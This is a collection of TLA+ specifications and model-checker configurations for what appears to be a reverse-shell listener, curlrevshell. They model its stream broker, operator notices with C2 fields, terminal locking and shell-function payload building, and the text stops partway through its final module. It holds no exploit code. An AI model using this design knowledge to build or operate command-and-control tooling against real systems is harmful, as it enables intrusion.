