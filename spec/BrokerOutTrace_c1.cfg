SPECIFICATION TSpec
CONSTANTS
  NChunks = 64
  QCap = 2
  OchCap = 1
  ReaderSelectsCtx = TRUE
  MayOmitNotice = FALSE
INVARIANTS NotAllConsumed ShownIsPrefix ChannelInOrder NoticeAfterAllData NoticeLast AtMostOneNotice NothingAfterDrop LossOnlyByCancellation LogMatchesForwarded NothingDroppedLogged
CHECK_DEADLOCK FALSE
