----------------------------- MODULE Notices -----------------------------
(***************************************************************************)
(* Operator notices about client requests (internal/hsrv logger.go,        *)
(* handlers.go, script.go; internal/iobroker events.go).                   *)
(*                                                                         *)
(* Every reporting action produces a notice made of constant text and of   *)
(* the client's strings, as data.  A client string is a sequence of        *)
(* tokens; the tokens that matter are those a formatter would interpret.   *)
(* Rendering is concatenation: nothing is interpreted, nothing is dropped. *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS MaxTokens, Emit

(* reporting actions reachable by a request, with their client-controlled fields *)
Actions == {
  [a |-> "file-requested",   fields |-> {"path", "query", "client-address"}],
  [a |-> "sent-script",      fields |-> {"c2-param", "c2-header", "host", "client-address"}],
  [a |-> "input-connected",  fields |-> {"id", "client-address"}],
  [a |-> "output-connected", fields |-> {"id"}],
  [a |-> "refused-duplicate",fields |-> {"id"}],
  \* the notice about a wrong ID also names the ID it expected: the one the attached stream brought
  [a |-> "refused-wrong-id", fields |-> {"id", "attached-id"}]
}

Tokens == {"%s", "%d", "%v", "%q", "%x", "%+v", "%#v", "%08.3f", "%[1]s", "%[2]*d", "%*d", "%%", "%20", "%25", "%41",
           "%", "%z", "%-5s", "% d", "plain", "%!"}

(* The client address is not chosen token by token: the only "%" it can    *)
(* carry is the zone of an IPv6 link-local address (fe80::1%eth0); the      *)
(* driver sends one request per action from such an address when the host   *)
(* has one.                                                                 *)

(* a formatter artefact marker never produced by data-only rendering of artefact-free input *)
ArtefactFree(toks) == \A i \in 1..Len(toks) : toks[i] # "%!"

(* the notice: constant words and fields, in order *)
Render(action, field, toks) == <<"[", "host", "]", action>> \o toks
Contains(s, t) == \E i \in 0..(Len(s) - Len(t)) : SubSeq(s, i + 1, i + Len(t)) = t

VARIABLES action, field, toks
vars == <<action, field, toks>>
Init == /\ action \in {x.a : x \in Actions}
        /\ field \in (CHOOSE x \in Actions : x.a = action).fields
        /\ toks \in UNION {[1..n -> Tokens \ {"%!"}] : n \in 1..MaxTokens}
Next == UNCHANGED vars
Spec == Init /\ [][Next]_vars

NoticeVerbatim == Contains(Render(action, field, toks), toks)
NoArtefact == ArtefactFree(toks) => ArtefactFree(Render(action, field, toks))
NothingAdded == Len(Render(action, field, toks)) = 4 + Len(toks)

EmitCase == \/ ~Emit
            \/ PrintT(<<"CASE", ToJson([action |-> action, field |-> field, toks |-> toks])>>)
=============================================================================
