---------------------------- MODULE BrokerFull ----------------------------
(***************************************************************************)
(* Composition of the control part of internal/iobroker.Broker             *)
(* (BrokerCtl.tla) with the two data paths and with the single channel     *)
(* everything the operator sees travels on (Broker.och).                   *)
(*                                                                         *)
(* BrokerCtl counts notices; BrokerOut / BrokerIn specify one stream each. *)
(* Neither says in which ORDER the operator sees what several streams and  *)
(* the broker itself send: notices of admission and refusal (sent inside   *)
(* the first critical section of Broker.connect), chunks of output (sent   *)
(* by proxyOut's forwarder, no lock held), the notice that a direction has *)
(* closed (sent after the proxy has returned, no lock held) and the "shell *)
(* is gone" notice (sent inside the second critical section).  This module *)
(* adds that order: `och` is the sequence of items sent on Broker.och so   *)
(* far, every action of BrokerCtl is extended by the items it sends, and   *)
(* two data actions are added:                                             *)
(*   Chunk(a)  proxyOut of the attached output attempt a forwards one      *)
(*             chunk (BrokerOut.tla refines it: reader, queue, forwarder)  *)
(*   Line(a)   proxyIn of the attached input attempt a takes the next      *)
(*             operator line and writes it (BrokerIn.tla refines it)       *)
(* FProxyEnd(a, why, msg) is BrokerCtl!ProxyEnd plus the closing notice:   *)
(* always for /i and /o streams, for halves of /io only when the proxy     *)
(* returned an error (msg).                                                *)
(*                                                                         *)
(* The properties are about the transcript as a whole:                     *)
(*   C01  OnlyAttachedShown, RefusedGetNothing                             *)
(*   C03  ChunksBeforeClosed, ChunksInOrder                                *)
(*   C04  GoneClosesGeneration, ClosedBeforeGone, ReadyInsideGeneration,   *)
(*        NothingOfOldShellAfterGone                                       *)
(*   C02  LinesGapFree, LinesOnlyToAttached                                *)
(* Binding: BrokerFullTrace.tla (free-running real brokers; the recorded   *)
(* operator channel must be exactly the `och` of a behaviour that also     *)
(* explains the recorded critical sections).                               *)
(***************************************************************************)
EXTENDS BrokerCtl, SequencesExt

CONSTANTS MaxChunks,   \* chunks per output attempt
          MaxLines     \* operator lines in all

VARIABLES
  och,     \* items sent on Broker.och so far (a history; never read by an action)
  sent,    \* per attempt: chunks forwarded
  got,     \* per attempt: operator lines written to it (sequence of line numbers)
  nline,   \* operator lines taken from the input channel so far
  pend     \* items the goroutine inside a critical section of connect has still to send; it
           \* holds b.mu until they are sent, but senders that need no lock (a forwarder, a
           \* proxy that has just returned) get their items in between: a chunk may appear
           \* between "Input connected" and "Shell is ready to go!" (seen on the real broker)

fvars == <<vars, och, sent, got, nline, pend>>

\* An item: what it is, whose it is, the generation (value of gens) it was sent in.
\* t: "refused" "connected" "ready" "chunk" "closed" "gone"
Item(t, a, n) == [t |-> t, a |-> a, g |-> gens, n |-> n]

FInit == Init /\ och = <<>> /\ pend = <<>> /\ sent = [a \in Att |-> 0] /\ got = [a \in Att |-> <<>>] /\ nline = 0

Data == <<sent, got, nline>>

FArriveUni(a, d, k) == ArriveUni(a, d, k) /\ UNCHANGED <<och, pend, Data>>
FArriveIO(a, b)     == ArriveIO(a, b) /\ UNCHANGED <<och, pend, Data>>
FHangup(a)          == Hangup(a) /\ UNCHANGED <<och, pend, Data>>
FShutdown           == pend = <<>> /\ Shutdown /\ UNCHANGED <<och, pend, Data>>   \* Do takes b.mu to set noMore
FDoReturns          == DoReturns /\ UNCHANGED <<och, pend, Data>>

(* The holder of b.mu sends its next item. *)
Send ==
  /\ pend # <<>>
  /\ och' = Append(och, Head(pend)) /\ pend' = Tail(pend)
  /\ act' = [n |-> "Send"]
  /\ UNCHANGED <<key, cIn, cOut, noMore, doRet, pc, adir, akey, areq, cancelled, outcome, nreq, hung, hvars, Data>>

(* First critical section.  What is sent, in the code's order: the refusal, *)
(* or "<Dir> connected: ID" (not for halves of /io) and then, when the      *)
(* other direction is attached already, the ready notice.                   *)
FAdmit(a) ==
  /\ pend = <<>> /\ Admit(a) /\ och' = och
  /\ pend' =
       (IF outcome'[a] = "refused" THEN <<[t |-> "refused", a |-> a, g |-> gens, n |-> 0]>>
        ELSE IF outcome'[a] = "accepted"
        THEN (IF IsBidir(akey[a]) THEN <<>> ELSE <<[t |-> "connected", a |-> a, g |-> gens', n |-> 0]>>)
             \o (IF ready' # ready THEN <<[t |-> "ready", a |-> a, g |-> gens', n |-> 0]>> ELSE <<>>)
        ELSE <<>>)
  /\ UNCHANGED Data

(* proxyOut forwards a chunk: only while the proxy runs.  A cancelled proxy *)
(* may still forward what it has already received (select picks either).   *)
Chunk(a) ==
  /\ pc[a] = "proxy" /\ adir[a] = "out" /\ sent[a] < MaxChunks
  /\ sent' = [sent EXCEPT ![a] = @ + 1]
  /\ och' = Append(och, Item("chunk", a, sent[a] + 1))
  /\ act' = [n |-> "Chunk", a |-> a]
  /\ UNCHANGED <<pend, key, cIn, cOut, noMore, doRet, pc, adir, akey, areq, cancelled, outcome, nreq, hung, hvars, got, nline>>

(* proxyIn takes the next operator line and writes it. *)
Line(a) ==
  /\ pc[a] = "proxy" /\ adir[a] = "in" /\ nline < MaxLines
  /\ nline' = nline + 1
  /\ got' = [got EXCEPT ![a] = Append(@, nline + 1)]
  /\ act' = [n |-> "Line", a |-> a]
  /\ UNCHANGED <<key, cIn, cOut, noMore, doRet, pc, adir, akey, areq, cancelled, outcome, nreq, hung, hvars, och, pend, sent>>

(* The proxy returns; connect reports the closure before it takes b.mu again. *)
FProxyEnd(a, why, msg) ==
  /\ ProxyEnd(a, why)
  /\ (~IsBidir(akey[a])) => msg
  /\ och' = IF msg THEN Append(och, Item("closed", a, 0)) ELSE och
  /\ UNCHANGED <<pend, Data>>

(* Second critical section: the last direction to leave announces the end. *)
FRelease(a) ==
  /\ pend = <<>> /\ Release(a) /\ och' = och
  /\ pend' = IF gone' # gone THEN <<Item("gone", a, 0)>> ELSE <<>>
  /\ UNCHANGED Data

FNext ==
  \/ \E a \in Att, d \in Dirs, k \in Keys : FArriveUni(a, d, k)
  \/ \E a, b \in Att : FArriveIO(a, b)
  \/ \E a \in Att : \/ FAdmit(a) \/ FRelease(a) \/ FHangup(a) \/ Chunk(a) \/ Line(a)
                    \/ \E w \in {"self", "cancel"}, m \in BOOLEAN : FProxyEnd(a, w, m)
  \/ FShutdown \/ FDoReturns \/ Send

FSpec == FInit /\ [][FNext]_fvars

-----------------------------------------------------------------------------

(* C01: what is shown as shell output comes from a stream that was admitted, *)
(* and a stream that was not admitted neither shows nor receives anything.  *)
OnlyAttachedShown ==
  \A i \in 1..Len(och) : och[i].t \in {"chunk", "closed", "connected"} => outcome[och[i].a] = "accepted"
RefusedGetNothing ==
  \A a \in Att : outcome[a] # "accepted" => sent[a] = 0 /\ got[a] = <<>>

(* C03: a stream's chunks are shown in the order sent, all of them before   *)
(* the notice that the stream has closed.                                   *)
ChunksInOrder ==
  \A i, j \in 1..Len(och) :
     (i < j /\ och[i].t = "chunk" /\ och[j].t = "chunk" /\ och[i].a = och[j].a) => och[i].n < och[j].n
ChunksBeforeClosed ==
  \A i, j \in 1..Len(och) :
     (och[i].t = "closed" /\ och[j].t = "chunk" /\ och[i].a = och[j].a) => j < i

(* C04: generations do not overlap on the operator's screen.  Everything a  *)
(* shell sends (connected, ready, chunks, closures) lies before its "gone", *)
(* there is one "gone" per generation and it ends it; "ready" is inside.    *)
GenMonotone ==
  \A i, j \in 1..Len(och) :
     (i < j /\ och[i].t # "refused" /\ och[j].t # "refused") => och[i].g <= och[j].g
GoneClosesGeneration ==
  \A i, j \in 1..Len(och) :
     (och[i].t = "gone" /\ och[j].t # "refused" /\ och[j].g = och[i].g /\ i # j) => (j < i /\ och[j].t # "gone")
ClosedBeforeGone ==
  \A i \in 1..Len(och) : och[i].t = "gone" =>
     \A a \in Att : (outcome[a] = "accepted" /\ pc[a] = "done" /\ ~IsBidir(akey[a])
                     /\ \E j \in 1..Len(och) : och[j].a = a /\ och[j].g = och[i].g /\ och[j].t = "connected")
                    => \E j \in 1..i : och[j].t = "closed" /\ och[j].a = a
ReadyInsideGeneration ==
  \A i \in 1..Len(och) : och[i].t = "ready" =>
     Cardinality({j \in 1..Len(och) : och[j].t = "ready" /\ och[j].g = och[i].g}) = 1
OneGonePerGeneration ==
  Cardinality({i \in 1..Len(och) : och[i].t = "gone"}) + Cardinality({i \in 1..Len(pend) : pend[i].t = "gone"}) = gone

(* C02: over all shells the lines written are the entered ones, once each,  *)
(* in order; only an admitted input stream gets any.                        *)
LinesGapFree ==
  \A n \in 1..nline : Cardinality({a \in Att : \E i \in 1..Len(got[a]) : got[a][i] = n}) = 1
LinesInOrder ==
  \A a \in Att : \A i, j \in 1..Len(got[a]) : i < j => got[a][i] < got[a][j]
LinesOnlyToAttached ==
  \A a \in Att : got[a] # <<>> => (adir[a] = "in" /\ outcome[a] = "accepted")

(* The transcript only grows. *)
TranscriptAppendOnly == [][IsPrefix(och, och')]_fvars

FView == <<View, och, sent, got, nline, pend>>
=============================================================================
