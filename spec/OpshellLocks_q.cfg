SPECIFICATION FairSpec
CONSTANTS
  InlineCallback = FALSE
  MaxKeys = 2
  MaxPlain = 2
  MaxStatus = 1
  Emit = TRUE
INVARIANTS TypeOK NoLockCycle LockOrder HoldersConsistent
PROPERTIES KeysProcessed AnnouncementsShown WriterProgresses MuteEnds
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
