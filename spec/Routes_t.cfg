SPECIFICATION Spec
CONSTANTS
  MaxTokens = 4
  Emit = TRUE
INVARIANTS Confined SingleFile Unset404 EndpointsKeepMeaning NeverAboveRoot
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
