--------------------------- MODULE OpshellLocks ---------------------------
(***************************************************************************)
(* Lock discipline of the operator's terminal (lib/opshell opshell.go on   *)
(* top of goxterm.Terminal).  Two mutexes:                                 *)
(*   tL  goxterm.Terminal.lock: held by ReadLine while it processes a key  *)
(*       (and so while it runs ControlCharacterCallback), and by           *)
(*       Terminal.Write for the duration of a write                        *)
(*   wL  opshell.Shell.wL: held by writePlain, Logf, the Ctrl+O handling   *)
(*       and the silence timer                                             *)
(* Goroutines:                                                             *)
(*   R   Shell.Do's ReadLine loop; a Ctrl+O key runs the callback          *)
(*   W   handleOutput: plain chunks (writePlain) and status lines (Logf)   *)
(*   L1, L2   "go s.Logf(...)" announcements spawned by Ctrl+O / the timer *)
(*   M   the body of the Ctrl+O handling when it is not run inline         *)
(*   T   the silence timer's function                                      *)
(*                                                                         *)
(* InlineCallback = TRUE  : the callback takes wL itself, i.e. while R     *)
(*                          holds tL (the tree as found): wL -> tL in W    *)
(*                          and L, tL -> wL in R: TLC finds the deadlock   *)
(*                          (OpshellLocks_inline.cfg)                      *)
(* InlineCallback = FALSE : the callback only starts M (repaired design)   *)
(*                                                                         *)
(* One action per lock operation; every acquisition is its own step so     *)
(* that TLC explores all interleavings of the critical sections.           *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS InlineCallback, MaxKeys, MaxPlain, MaxStatus, Emit

None == "none"
Loggers == {"L1", "L2"}
Procs == {"R", "W", "M", "T"} \cup Loggers

VARIABLES
  wL, tL,     \* holder of each lock, or None
  pc,         \* per goroutine
  muted,
  keys, plains, statuses,   \* Ctrl+O presses / plain chunks / status lines consumed so far
  wkind,      \* what W is writing: "plain" | "status"
  pendM,      \* Ctrl+O handlings started and not yet run (repaired design)
  pendL,      \* announcements started and not yet written
  armed,      \* the silence timer is armed
  shown,      \* status lines and announcements written to the terminal so far
  act
vars == <<wL, tL, pc, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown, act>>

Init ==
  /\ wL = None /\ tL = None
  /\ pc = [p \in Procs |-> "idle"]
  /\ muted = FALSE /\ keys = 0 /\ plains = 0 /\ statuses = 0 /\ wkind = "plain"
  /\ pendM = 0 /\ pendL = 0 /\ armed = FALSE /\ shown = 0
  /\ act = [p |-> "none", n |-> "Init"]

Step(p, from, to, name) == /\ pc[p] = from /\ pc' = [pc EXCEPT ![p] = to] /\ act' = [p |-> p, n |-> name]

(* the body of the Ctrl+O handling, run under wL *)
MuteBody ==
  /\ muted' = TRUE
  /\ armed' = TRUE                  \* (re)armed only when newly muted; harmless to set again
  /\ pendL' = pendL + 1             \* go s.Logf("Muting ..." / "Already muted")

(* ---- R: the key reader ---- *)
RKey ==         \* a Ctrl+O arrives; ReadLine takes tL to process it
  /\ keys < MaxKeys /\ tL = None
  /\ Step("R", "idle", "key", "RKey") /\ tL' = "R" /\ keys' = keys + 1
  /\ UNCHANGED <<wL, muted, plains, statuses, wkind, pendM, pendL, armed, shown>>
RCallback ==    \* the callback: inline it wants wL now; otherwise it starts M
  /\ IF InlineCallback
     THEN /\ wL = None /\ wL' = "R"
          /\ Step("R", "key", "body", "RLockW")
          /\ UNCHANGED <<tL, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown>>
     ELSE /\ Step("R", "key", "ret", "RSpawn") /\ pendM' = pendM + 1
          /\ UNCHANGED <<wL, tL, muted, keys, plains, statuses, wkind, pendL, armed, shown>>
RBody ==
  /\ Step("R", "body", "ret", "RBody") /\ MuteBody /\ wL' = None
  /\ UNCHANGED <<tL, keys, plains, statuses, wkind, pendM, shown>>
RReturn ==      \* back in ReadLine: tL released
  /\ Step("R", "ret", "idle", "RReturn") /\ tL' = None
  /\ UNCHANGED <<wL, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown>>

(* ---- M: the Ctrl+O handling in its own goroutine ---- *)
MLock == /\ pendM > 0 /\ wL = None /\ wL' = "M" /\ Step("M", "idle", "body", "MLock") /\ pendM' = pendM - 1
         /\ UNCHANGED <<tL, muted, keys, plains, statuses, wkind, pendL, armed, shown>>
MBody == /\ Step("M", "body", "idle", "MBody") /\ MuteBody /\ wL' = None
         /\ UNCHANGED <<tL, keys, plains, statuses, wkind, pendM, shown>>

(* ---- W: handleOutput ---- *)
WLock(k) ==
  /\ (IF k = "plain" THEN plains < MaxPlain ELSE statuses < MaxStatus)
  /\ wL = None /\ wL' = "W" /\ wkind' = k
  /\ Step("W", "idle", "haveW", IF k = "plain" THEN "WLockPlain" ELSE "WLockStatus")
  /\ plains' = IF k = "plain" THEN plains + 1 ELSE plains
  /\ statuses' = IF k = "status" THEN statuses + 1 ELSE statuses
  /\ UNCHANGED <<tL, muted, keys, pendM, pendL, armed, shown>>
WSkip ==        \* muted plain chunk: not written, the timer is pushed back
  /\ wkind = "plain" /\ muted
  /\ Step("W", "haveW", "idle", "WSkip") /\ wL' = None
  /\ UNCHANGED <<tL, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown>>
WLockT ==       \* Terminal.Write takes tL
  /\ (wkind = "status" \/ ~muted) /\ tL = None /\ tL' = "W"
  /\ Step("W", "haveW", "haveWT", "WLockT")
  /\ UNCHANGED <<wL, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown>>
WDone ==
  /\ Step("W", "haveWT", "idle", "WDone") /\ tL' = None /\ wL' = None
  /\ shown' = IF wkind = "status" THEN shown + 1 ELSE shown
  /\ UNCHANGED <<muted, keys, plains, statuses, wkind, pendM, pendL, armed>>

(* ---- L: announcements ---- *)
LLock(l) == /\ pendL > 0 /\ wL = None /\ wL' = l /\ Step(l, "idle", "haveW", "LLock") /\ pendL' = pendL - 1
            /\ UNCHANGED <<tL, muted, keys, plains, statuses, wkind, pendM, armed, shown>>
LLockT(l) == /\ tL = None /\ tL' = l /\ Step(l, "haveW", "haveWT", "LLockT")
             /\ UNCHANGED <<wL, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown>>
LDone(l) == /\ Step(l, "haveWT", "idle", "LDone") /\ tL' = None /\ wL' = None /\ shown' = shown + 1
            /\ UNCHANGED <<muted, keys, plains, statuses, wkind, pendM, pendL, armed>>

(* ---- T: the silence timer ---- *)
TLock == /\ armed /\ muted /\ wL = None /\ wL' = "T" /\ Step("T", "idle", "body", "TLock")
         /\ UNCHANGED <<tL, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown>>
TBody == /\ Step("T", "body", "idle", "TBody") /\ wL' = None
         /\ muted' = FALSE /\ armed' = FALSE /\ pendL' = pendL + 1      \* go s.Logf("Unmuting")
         /\ UNCHANGED <<tL, keys, plains, statuses, wkind, pendM, shown>>

Next ==
  \/ RKey \/ RCallback \/ RBody \/ RReturn \/ MLock \/ MBody
  \/ (\E k \in {"plain", "status"} : WLock(k)) \/ WSkip \/ WLockT \/ WDone
  \/ (\E l \in Loggers : LLock(l) \/ LLockT(l) \/ LDone(l))
  \/ TLock \/ TBody
Spec == Init /\ [][Next]_vars
Fair == /\ WF_vars(RCallback) /\ WF_vars(RBody) /\ WF_vars(RReturn) /\ WF_vars(MLock) /\ WF_vars(MBody)
        /\ WF_vars(WSkip) /\ WF_vars(WLockT) /\ WF_vars(WDone)
        /\ \A l \in Loggers : WF_vars(LLock(l)) /\ WF_vars(LLockT(l)) /\ WF_vars(LDone(l))
        /\ WF_vars(TLock) /\ WF_vars(TBody)
FairSpec == Spec /\ Fair

-----------------------------------------------------------------------------
TypeOK == /\ wL \in Procs \cup {None} /\ tL \in Procs \cup {None}
          /\ pc \in [Procs -> {"idle", "key", "body", "ret", "haveW", "haveWT"}]

(* who waits for which lock *)
WantsW(p) == \/ (p = "R" /\ pc[p] = "key" /\ InlineCallback)
WantsT(p) == p \in {"W"} \cup Loggers /\ pc[p] = "haveW" /\ ~(p = "W" /\ wkind = "plain" /\ muted)

(* C19: the terminal never freezes: no goroutine holds one lock while waiting *)
(* for the other which is held by a goroutine waiting for the first          *)
NoLockCycle == ~ \E p, q \in Procs : /\ p # q /\ tL = p /\ WantsW(p) /\ wL = q /\ WantsT(q)
LockOrder == \A p \in Procs : (tL = p /\ wL = p) => p # "R"      \* only wL -> tL nesting, never tL -> wL
HoldersConsistent ==
  /\ (wL # None) => pc[wL] \in {"body", "haveW", "haveWT"}
  /\ (tL # None) => pc[tL] \in {"key", "body", "ret", "haveWT"}

(* C19 liveness: every key press is processed, every announcement and status line gets written *)
KeysProcessed == (pc["R"] # "idle") ~> (pc["R"] = "idle")
AnnouncementsShown == (pendL > 0) ~> (pendL = 0)
WriterProgresses == (pc["W"] # "idle") ~> (pc["W"] = "idle")
MuteEnds == muted ~> ~muted

View == <<wL, tL, pc, muted, keys, plains, statuses, wkind, pendM, pendL, armed, shown>>
EmitEdge == \/ ~Emit
            \/ PrintT(<<"EDGE", ToJson([from |-> [wl |-> wL, tl |-> tL, pc |-> pc, muted |-> muted, keys |-> keys, plains |-> plains,
                                                  statuses |-> statuses, wkind |-> wkind, pendm |-> pendM, pendl |-> pendL, armed |-> armed, shown |-> shown],
                                         act |-> act',
                                         to |-> [wl |-> wL', tl |-> tL', pc |-> pc', muted |-> muted', keys |-> keys', plains |-> plains',
                                                 statuses |-> statuses', wkind |-> wkind', pendm |-> pendM', pendl |-> pendL', armed |-> armed', shown |-> shown']])>>)
=============================================================================
