----------------------------- MODULE Payload -----------------------------
(***************************************************************************)
(* The Ctrl+I payload built from a directory (lib/shellfuncsfile           *)
(* Converter.From / fromDirectory / fromReader).                           *)
(*                                                                         *)
(* A directory is a set of entries drawn from a catalogue of name classes; *)
(* each catalogue name has fixed attributes: its rank in byte order, a     *)
(* leading dot or not, and the set of filter patterns it matches (the      *)
(* driver re-checks those attributes against filepath.Match).  An entry    *)
(* adds a type and a content class.                                        *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS MaxEntries, Emit

(* name id -> attributes; see harness/pure/payload.go for the spellings *)
Names == {
  [id |-> 1,  rank |-> 4,  dot |-> FALSE, m |-> {"*.sh", "a*", "*"},  types |-> {"reg"}],            \* a.sh
  [id |-> 2,  rank |-> 6,  dot |-> FALSE, m |-> {"*.pl", "*"},        types |-> {"reg"}],            \* b.pl
  [id |-> 3,  rank |-> 7,  dot |-> FALSE, m |-> {"*.subr", "*"},      types |-> {"reg"}],            \* c.subr
  [id |-> 4,  rank |-> 8,  dot |-> FALSE, m |-> {"*"},                types |-> {"reg", "dir", "link", "dangling"}],  \* d.txt
  [id |-> 5,  rank |-> 2,  dot |-> TRUE,  m |-> {"*.sh", "*"},        types |-> {"reg", "dangling"}], \* .hidden.sh
  [id |-> 6,  rank |-> 1,  dot |-> TRUE,  m |-> {"*.sh", "*"},        types |-> {"dangling", "reg"}], \* .#a.sh (editor lock)
  [id |-> 7,  rank |-> 9,  dot |-> FALSE, m |-> {"*"},                types |-> {"reg", "dangling"}], \* e.sh~ (backup)
  [id |-> 8,  rank |-> 10, dot |-> FALSE, m |-> {"*.sh", "*"},        types |-> {"reg"}],            \* f.tar.sh
  [id |-> 9,  rank |-> 11, dot |-> FALSE, m |-> {"*.sh", "*"},        types |-> {"reg"}],            \* g h.sh
  [id |-> 10, rank |-> 3,  dot |-> FALSE, m |-> {"*.pl", "*"},        types |-> {"reg"}],            \* [x].pl
  [id |-> 11, rank |-> 12, dot |-> FALSE, m |-> {"*.sh", "*"},        types |-> {"dir"}],            \* zdir.sh (a directory)
  [id |-> 12, rank |-> 5,  dot |-> FALSE, m |-> {"*.pl", "a*", "*"},  types |-> {"reg"}]             \* ab.pl
}
Contents == {"empty", "nl", "nonl"}

(* filter tables: patterns in lexicographic order, each with its filter *)
Tables == {
  [id |-> "default",  pats |-> <<"*.pl", "*.sh", "*.subr">>,       f |-> [p \in {"*.pl", "*.sh", "*.subr"} |-> IF p = "*.pl" THEN "perl" ELSE "shell"]],
  [id |-> "no-sh",    pats |-> <<"*.pl", "*.subr">>,               f |-> [p \in {"*.pl", "*.subr"} |-> IF p = "*.pl" THEN "perl" ELSE "shell"]],
  [id |-> "plus-a",   pats |-> <<"*.pl", "*.sh", "*.subr", "a*">>, f |-> [p \in {"*.pl", "*.sh", "*.subr", "a*"} |-> IF p \in {"*.pl", "a*"} THEN "perl" ELSE "shell"]],
  [id |-> "plus-all", pats |-> <<"*", "*.pl", "*.sh", "*.subr">>,  f |-> [p \in {"*", "*.pl", "*.sh", "*.subr"} |-> IF p = "*.pl" THEN "perl" ELSE "shell"]]
}

Range(s) == {s[i] : i \in 1..Len(s)}
Entry(nm, ty, c) == [id |-> nm.id, rank |-> nm.rank, dot |-> nm.dot, m |-> nm.m, type |-> ty, content |-> c]
AllEntries == {Entry(nm, ty, c) : nm \in Names, ty \in {"reg", "dir", "link", "dangling"}, c \in Contents}
ValidEntries == {e \in AllEntries : /\ \E nm \in Names : nm.id = e.id /\ e.type \in nm.types
                                   /\ (e.type # "reg" => e.content = "nl")}   \* content only matters for regular files

Eligible(e, t) == ~e.dot /\ e.type = "reg" /\ (e.m \cap Range(t.pats)) # {}
FirstPat(e, t) == t.pats[CHOOSE i \in 1..Len(t.pats) : t.pats[i] \in e.m /\ \A j \in 1..Len(t.pats) : t.pats[j] \in e.m => i <= j]

RECURSIVE SortByRank(_)
SortByRank(S) == IF S = {} THEN <<>>
                 ELSE LET x == CHOOSE x \in S : \A y \in S : x.rank <= y.rank IN <<x>> \o SortByRank(S \ {x})

(* the payload: which file, converted by which filter, in which order *)
Part(e, t) == [id |-> e.id, filter |-> t.f[FirstPat(e, t)], content |-> e.content]
Payload(dir, t) == LET s == SortByRank({e \in dir : Eligible(e, t)}) IN [i \in 1..Len(s) |-> Part(s[i], t)]

(* a single file as the source: converted when a pattern matches, else passed through *)
Single(e, t) == IF (e.m \cap Range(t.pats)) # {} THEN [id |-> e.id, filter |-> t.f[FirstPat(e, t)], content |-> e.content]
                ELSE [id |-> e.id, filter |-> "none", content |-> e.content]

VARIABLES dir, tbl
vars == <<dir, tbl>>
DistinctNames(S) == \A a, b \in S : a.id = b.id => a = b
RECURSIVE KSub(_, _)
KSub(S, k) == IF k = 0 THEN {{}} ELSE LET R == KSub(S, k - 1) IN R \cup UNION {{T \cup {x} : T \in R} : x \in S}
Init == /\ tbl \in Tables
        /\ dir \in {S \in KSub(ValidEntries, MaxEntries) : DistinctNames(S)}
        \* symbolic links only among the dot-files and the names no pattern matches
        /\ \A e \in dir : e.type \in {"link", "dangling"} => (e.dot \/ (e.m \cap Range(tbl.pats)) = {})
Next == UNCHANGED vars
Spec == Init /\ [][Next]_vars

(* laws *)
OnlyEligible == \A i \in 1..Len(Payload(dir, tbl)) :
                  \E e \in dir : e.id = Payload(dir, tbl)[i].id /\ ~e.dot /\ e.type = "reg"
Sorted == \A i, j \in 1..Len(Payload(dir, tbl)) : i < j =>
             (CHOOSE nm \in Names : nm.id = Payload(dir, tbl)[i].id).rank < (CHOOSE nm \in Names : nm.id = Payload(dir, tbl)[j].id).rank
IneligibleIsInert == \A e \in dir : ~Eligible(e, tbl) => Payload(dir \ {e}, tbl) = Payload(dir, tbl)

EmitCase ==
  \/ ~Emit
  \/ PrintT(<<"CASE", ToJson([table |-> tbl.id,
                               dir |-> SortByRank(dir),
                               payload |-> Payload(dir, tbl),
                               singles |-> [i \in 1..Len(SortByRank({e \in dir : e.type = "reg"})) |-> Single(SortByRank({e \in dir : e.type = "reg"})[i], tbl)]])>>)
=============================================================================
