SPECIFICATION Spec
CONSTANTS
  Calls = {1, 2}
  PrivateClient = FALSE
  Emit = FALSE
INVARIANTS OwnConfigOnly GlobalsUntouched NoRequestBeforeCheck
CONSTRAINT EmitCase
VIEW View
CHECK_DEADLOCK FALSE
