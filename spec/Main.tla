------------------------------- MODULE Main -------------------------------
(***************************************************************************)
(* curlrevshell.go rmain: start-up as a sequential program over a set of   *)
(* faults, an informational flag and the presence of a controlling TTY.    *)
(*                                                                         *)
(* Steps, in the order of the code:                                        *)
(*   flags (-h) -> template (-print-default-template) -> log (open -log)   *)
(*   -> ctrli (-print-ctrl-i) -> tty (opshell.New: open /dev/tty, raw      *)
(*   mode) -> icanhazip -> listen (hsrv.New: address, certificate cache)   *)
(*   -> serve -> exit paths, each of which runs the deferred cleanup that  *)
(*   restores the terminal mode.                                           *)
(* CheckBeforeUse = FALSE is the pinned tree: the shell returned by        *)
(* opshell.New is used before its error is looked at (nil dereference).    *)
(***************************************************************************)
EXTENDS Naturals, FiniteSets, Sequences, TLC, Json

CONSTANTS CheckBeforeUse, Emit

Faults == {"badlog", "addr-syntax", "addr-inuse", "addr-unassignable", "cache-damaged", "cache-unwritable",
           "cache-nocreate",   \* the cache directory exists, but no file can be created in it
           "ctrli-missing", "icanhazip"}
Flags == {"none", "-h", "-print-default-template", "-print-ctrl-i"}
Exits == {"ctrl-c", "ctrl-d"}
\* what is going on when the operator ends a healthy run: nothing, one stream attached, a whole
\* shell, a shell with output muted, half a line typed, a shell flooding the terminal with output
\* ("flood-1cpu": the same with the program confined to one processor, where the terminal cannot
\* keep up with the shell)
ServeStates == {"idle", "half", "shell", "muted", "typed", "flood", "flood-1cpu"}

VARIABLES
  sst,       \* state of the healthy run when it is ended (only varied for fault-free configurations)
  faults, flag, tty, how,   \* the configuration (fixed per behaviour); how = the way the operator ends a healthy run
  pc,        \* current step, or "exited"
  raw,       \* the terminal is in raw mode
  status,    \* exit status class: none | zero | nonzero | crash
  cause,     \* fault named in the final message ("" = none, "info" = informational output)
  act
